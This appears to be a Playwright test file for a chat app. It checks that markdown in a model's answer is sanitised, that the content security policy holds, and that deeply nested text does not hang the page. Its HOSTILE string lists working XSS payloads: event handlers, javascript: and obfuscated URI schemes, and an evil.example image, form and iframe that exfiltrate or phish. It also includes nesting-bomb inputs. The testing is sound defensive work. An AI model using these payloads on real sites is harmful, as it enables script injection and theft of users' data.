"""What a model writes is a stranger's text: nothing of it runs, loads, leads astray or stops the page."""

import pytest
from playwright.async_api import expect

from tests.doubles import groq_control
from tests.support.chromium import Complaints
from tests.support.page import Person

HOSTILE = """\
<script>window.ran = 1</script>
<img src="https://evil.example/a.png" onerror="window.ran = 2">

Inline <img src=x onerror=window.ran=3> and <svg onload=window.ran=4> and <a href="javascript:window.ran=5">raw</a>.

[click](javascript:window.ran=6) [upper](JaVaScRiPt:window.ran=7) [data](data:text/html,<script>window.ran=8</script>)
[own](/api/auth/logout) [relative](../api) [entity](&#106;avascript:window.ran=9) [tab](java\tscript:window.ran=10)

![secret](https://evil.example/b.png?q=secret) ![x](javascript:window.ran=11)

<iframe src="https://evil.example/"></iframe>
<form action="https://evil.example/"><input name=password></form>
<style>body { display: none }</style>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">

- <details open ontoggle=window.ran=12><summary>x</summary></details>
- <b>bold</b> and <sub>2</sub> and 5 < 6 &amp; 7 &lt; 8 &copy; &toString;

```html
<script>window.ran = 13</script>
```

| <script>window.ran = 14</script> | b |
|---|---|
| [x](vbscript:window.ran=15) | `<b>` |

[good](https://good.example/page?a=1&b=2) <https://auto.example> [mail](mailto:a@good.example)

That is all."""

DEEP = {
    "quotes": ">" * 6000 + " deep",
    "list": "\n".join("\t" * depth + "- deep" for depth in range(400)),
    "brackets": "[" * 9000 + "x" + "](u)" * 9000,
    "emphasis": "*a_**b_" * 2000,
    "html": "<div>" * 6000,
    "tags": "<b>" * 6000,
    "table": "|a" * 6000 + "\n" + "|-" * 6000 + "\n" + "|b" * 6000,
}
DEEPEST = 64
"""Elements: those that markdown.js may nest, and those of a list or a table around them."""
HEIGHT = """(root) => {
    const height = (element) => 1 + Math.max(0, ...[...element.children].map(height));
    return height(root);
}"""


async def test_a_hostile_answer_runs_and_loads_nothing(person: Person, groq_url: str, complaints: Complaints) -> None:
    await groq_control.script(groq_url, reply=HOSTILE, marker="hostile", purpose="answer")
    answer = await person.ask("hostile")
    await expect(answer.get_by_text("That is all.")).to_be_visible()
    page = person.page
    assert await page.evaluate("window.ran") is None
    assert await answer.locator("script, img, iframe, form, style, meta, base, object, embed, svg[onload]").count() == 0
    links = await answer.locator(".markdown a").evaluate_all(
        "links => links.map((link) => [link.textContent, link.getAttribute('href')])"
    )
    assert links == [
        ["Image: secret", "https://evil.example/b.png?q=secret"],
        ["good", "https://good.example/page?a=1&b=2"],
        ["https://auto.example", "https://auto.example"],
        ["mail", "mailto:a@good.example"],
    ]
    attributes = await answer.locator(".markdown *").evaluate_all(
        "all => all.flatMap((one) => one.getAttributeNames())"
    )
    attributes = [name for name in attributes if name.startswith("on") or name in {"style", "id"}]
    assert attributes == []
    await expect(answer).to_contain_text("5 < 6 & 7 < 8 © &toString;")
    await expect(answer.locator("sub")).to_have_text("2")
    assert complaints.all() == []


async def test_the_policy_stops_what_would_get_through(person: Person, complaints: Complaints) -> None:
    """The policy is a second wall: it holds also where the first one has a hole."""
    told = await person.page.evaluate("""async () => {
        const told = [];
        const broken = new Promise((resolve) => document.addEventListener("securitypolicyviolation", resolve, {once: true}));
        document.body.append(Object.assign(document.createElement("img"), {src: "https://evil.example/x.png"}));
        told.push((await broken).effectiveDirective);
        try { document.body.innerHTML = "<b>x</b>"; } catch (error) { told.push(error.name); }
        try { eval("window.ran = 1"); } catch (error) { told.push(error.name); }
        return [...told, window.ran ?? null];
    }""")
    assert told == ["img-src", "TypeError", "EvalError", None]
    assert complaints.violations
    complaints.violations.clear()
    complaints.errors.clear()
    complaints.foreign.clear()


@pytest.mark.parametrize("kind", DEEP)
async def test_a_text_that_nests_without_end_does_not_stop_the_page(person: Person, groq_url: str, kind: str) -> None:
    await groq_control.script(groq_url, reply=f"{DEEP[kind]}\n\nStill here.", marker=f"deep-{kind}", purpose="answer")
    answer = await person.ask(f"deep-{kind}")
    await expect(answer).to_contain_text("Still here.")
    assert await answer.locator(".markdown").evaluate(HEIGHT) <= DEEPEST
    await person.composer.fill("responsive")
    await expect(person.composer).to_have_value("responsive")
